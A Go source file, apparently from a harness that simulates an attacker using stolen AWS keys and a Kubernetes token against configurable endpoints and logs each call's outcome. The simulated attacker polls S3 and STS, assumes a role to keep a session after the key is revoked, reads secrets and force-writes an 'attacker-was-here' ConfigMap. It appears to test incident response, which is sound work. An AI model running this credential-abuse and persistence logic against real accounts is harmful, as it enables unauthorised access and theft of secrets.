package main

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"strings"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/credentials"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/sts"
	"github.com/aws/smithy-go"
)

const pollEvery = 250 * time.Millisecond

// loot is what was stolen.
type loot struct{ keyID, secret, token string }

// use tries everything that was stolen, again and again, and notes how it went.
func (w *world) use(ctx context.Context, l loot) {
	if l.keyID != "" && l.secret != "" {
		key := w.awsConfig(l.keyID, l.secret, "")
		w.all.Go(func() { w.pollAWS(ctx, "key", key) })
		w.all.Go(func() { w.assume(ctx, key) })
	}
	if l.token != "" {
		w.all.Go(func() { w.pollKubernetes(ctx, l.token) })
	}
}

func (w *world) awsConfig(id, secret, session string) aws.Config {
	return aws.Config{Region: w.o.region, BaseEndpoint: &w.o.aws, Credentials: credentials.NewStaticCredentialsProvider(id, secret, session),
		Retryer: func() aws.Retryer { return aws.NopRetryer{} }, HTTPClient: &http.Client{Timeout: 5 * time.Second}}
}

// pollAWS asks who it is and lists the buckets, in turn.
func (w *world) pollAWS(ctx context.Context, who string, config aws.Config) {
	identity, buckets := sts.NewFromConfig(config), s3.NewFromConfig(config, func(o *s3.Options) { o.UsePathStyle = true })
	every(ctx, func(n int) {
		if n%2 == 0 {
			_, err := buckets.ListBuckets(ctx, &s3.ListBucketsInput{})
			w.noteAWS(ctx, who, "ListBuckets", err)
			return
		}
		_, err := identity.GetCallerIdentity(ctx, &sts.GetCallerIdentityInput{})
		w.noteAWS(ctx, who, "GetCallerIdentity", err)
	})
}

// assume mints a session of the role, once, and polls with it: it does not end when the key does.
func (w *world) assume(ctx context.Context, config aws.Config) {
	out, err := sts.NewFromConfig(config).AssumeRole(ctx, &sts.AssumeRoleInput{RoleArn: &w.o.role, RoleSessionName: aws.String("backup-job")})
	w.noteAWS(ctx, "key", "AssumeRole", err)
	if err != nil {
		return
	}
	c := out.Credentials
	w.pollAWS(ctx, "session", w.awsConfig(aws.ToString(c.AccessKeyId), aws.ToString(c.SecretAccessKey), aws.ToString(c.SessionToken)))
}

func (w *world) noteAWS(ctx context.Context, who, what string, err error) {
	if ctx.Err() != nil {
		return
	}
	out := call{At: time.Now().UTC(), Who: who, Call: what, OK: err == nil}
	var api smithy.APIError
	if errors.As(err, &api) {
		out.Code = api.ErrorCode()
	} else if err != nil {
		out.Code = err.Error()
	}
	w.note(out)
}

// pollKubernetes reads secrets with the stolen token, and beside that writes an object.
func (w *world) pollKubernetes(ctx context.Context, token string) {
	client, err := w.kubernetesClient()
	if err != nil {
		w.note(call{At: time.Now().UTC(), Who: "token", Call: "connect", Code: err.Error()})
		return
	}
	base := w.o.kube + "/api/v1/namespaces/" + w.o.namespace
	const object = `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"attacker-was-here"},"data":{"n":"%d"}}`
	w.all.Go(func() {
		every(ctx, func(int) { w.noteKubernetes(ctx, client, token, "read secrets", http.MethodGet, base+"/secrets", "") })
	})
	every(ctx, func(n int) {
		w.noteKubernetes(ctx, client, token, "write", http.MethodPatch, base+"/configmaps/attacker-was-here?fieldManager=attacker&force=true", fmt.Sprintf(object, n))
	})
}

// every does something at once and then again and again until ctx ends.
func every(ctx context.Context, do func(n int)) {
	tick := time.NewTicker(pollEvery)
	defer tick.Stop()
	for n := 0; ; n++ {
		do(n)
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
	}
}

func (w *world) kubernetesClient() (*http.Client, error) {
	pem, err := os.ReadFile(w.o.kubeCA)
	if err != nil {
		return nil, err
	}
	pool := x509.NewCertPool()
	if !pool.AppendCertsFromPEM(pem) {
		return nil, fmt.Errorf("%s holds no certificate", w.o.kubeCA)
	}
	return &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{
		TLSClientConfig: &tls.Config{RootCAs: pool, ServerName: "127.0.0.1", MinVersion: tls.VersionTLS12}}}, nil // it is reached by the gateway
}

func (w *world) noteKubernetes(ctx context.Context, client *http.Client, token, what, method, url, body string) {
	r, err := http.NewRequestWithContext(ctx, method, url, strings.NewReader(body))
	if err != nil {
		return
	}
	r.Header.Set("Authorization", "Bearer "+token)
	if body != "" {
		r.Header.Set("Content-Type", "application/apply-patch+yaml")
	}
	out := call{At: time.Now().UTC(), Who: "token", Call: what}
	answer, err := client.Do(r)
	switch {
	case ctx.Err() != nil:
		return
	case err != nil:
		out.Code = err.Error()
	default:
		var status struct {
			Reason, Message string
		}
		if out.OK = answer.StatusCode < 300; !out.OK {
			_ = json.NewDecoder(io.LimitReader(answer.Body, 64<<10)).Decode(&status) // what is no Status is told by its number
			out.Code = strings.TrimSpace(fmt.Sprintf("%d %s %.200s", answer.StatusCode, status.Reason, status.Message))
		}
		_, _ = io.Copy(io.Discard, answer.Body)
		_ = answer.Body.Close()
	}
	w.note(out)
}
